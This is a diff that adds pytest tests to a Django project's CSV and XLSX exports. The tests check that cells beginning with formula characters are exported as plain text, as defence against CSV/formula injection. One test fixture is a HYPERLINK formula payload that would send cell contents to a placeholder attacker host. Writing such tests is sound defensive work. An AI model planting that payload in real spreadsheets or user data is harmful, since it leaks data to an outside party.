@@ -3,13 +3,23 @@
 import csv
 import datetime
 import io
+import re
+import zipfile
 
 import openpyxl
 import pytest
 from django.http import HttpResponse
+from django.urls import reverse
 from django.utils import timezone
 
-from priorities.exports import HEADERS, rag_word, write_csv, xlsx_bytes
+from priorities.exports import (
+    HEADERS,
+    csv_cell,
+    rag_word,
+    safe_cell,
+    write_csv,
+    xlsx_bytes,
+)
 from priorities.models import Action, ProgressUpdate, Rag
 from sab.markdown import plain_text
 from tests.factories import ActionFactory, PersonFactory, ProgressUpdateFactory
@@ -217,3 +227,98 @@ def test_exports_read_the_actions_in_one_query(
     sheet = openpyxl.load_workbook(io.BytesIO(content)).active
     assert sheet.max_row == n + 1
     assert sheet.cell(row=n + 1, column=len(HEADERS)).value == f"Update {n - 1}"
+
+
+# --- Formula injection (issue 13): one rule for both exports ---------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+OWASP_FORMULA_STARTS = "=+-@\t\r"  # OWASP, "CSV Injection"
+
+
+def _export(client, board, fmt: str) -> bytes:
+    response = client.get(
+        reverse("priorities:tracker-export", kwargs={"slug": board.slug, "fmt": fmt})
+    )
+    assert response.status_code == 200
+    return response.content
+
+
+def test_the_xlsx_export_writes_a_formula_as_text_never_as_a_formula(
+    client, manager, board, priority
+):
+    """The workbook a board manager downloads holds no formula at all (no <f> element in
+    any part), and the cell reads back as the text that was typed, marked as text so that
+    editing the cell in Excel does not turn it into a formula either."""
+    ActionFactory(priority=priority, description=HYPERLINK, outcome_measure="@SUM(1+1)")
+    client.force_login(manager)
+
+    content = _export(client, board, "xlsx")
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    action = sheet.cell(row=2, column=HEADERS.index("Action") + 1)
+    outcome = sheet.cell(row=2, column=HEADERS.index("Outcome measure") + 1)
+    assert (action.value, action.data_type, action.quotePrefix) == (HYPERLINK, "s", True)
+    assert (outcome.value, outcome.data_type, outcome.quotePrefix) == ("@SUM(1+1)", "s", True)
+    ref = sheet.cell(row=2, column=HEADERS.index("Ref") + 1)
+    assert not ref.quotePrefix  # ordinary text is left alone
+
+
+@pytest.mark.parametrize("start", list(OWASP_FORMULA_STARTS))
+def test_both_exports_keep_each_formula_start_as_text(client, manager, board, priority, start):
+    """OWASP's list (= + - @ tab and carriage return): the CSV cell gets an apostrophe, the
+    XLSX cell is a text cell with the text unchanged."""
+    description = f"{start}1+1 cmd"
+    ActionFactory(priority=priority, description=description)
+    client.force_login(manager)
+
+    rows = list(csv.DictReader(io.StringIO(_export(client, board, "csv").decode("utf-8-sig"))))
+    assert rows[0]["Action"] == "'" + description
+    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, board, "xlsx"))).active
+    cell = sheet.cell(row=2, column=HEADERS.index("Action") + 1)
+    text = description.replace("\r", "\n")  # XML reads a carriage return as a line feed
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+
+
+@pytest.mark.parametrize(
+    ("value", "csv_text"),
+    [
+        ("\tcmd", "'\tcmd"),
+        ("\r=1+1", "'\r=1+1"),
+        ("=1+1", "'=1+1"),
+        ("+44 116 000", "'+44 116 000"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("Plain text = fine", "Plain text = fine"),
+        (" =1+1", " =1+1"),  # not at the start: a spreadsheet shows it as text
+        ("", ""),
+        (None, ""),
+        (datetime.date(2026, 3, 31), "31/03/2026"),
+        (7, "7"),
+    ],
+)
+def test_safe_cell_for_csv(value, csv_text):
+    assert safe_cell(value) == csv_text
+
+
+def test_the_csv_rule_keeps_its_older_name():
+    """reviews.views imports csv_cell for the referrals register: the same rule."""
+    assert csv_cell is safe_cell
+    assert csv_cell("\tx") == "'\tx"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "=1+1"),  # kept: the cell is a text cell
+        ("Bell\x07", "Bell"),
+        ("x" * 40_000, "x" * 32_767),
+        (None, None),
+        (datetime.date(2026, 3, 31), datetime.date(2026, 3, 31)),
+        (3, 3),
+    ],
+)
+def test_safe_cell_for_a_workbook(value, cell):
+    assert safe_cell(value, workbook=True) == cell
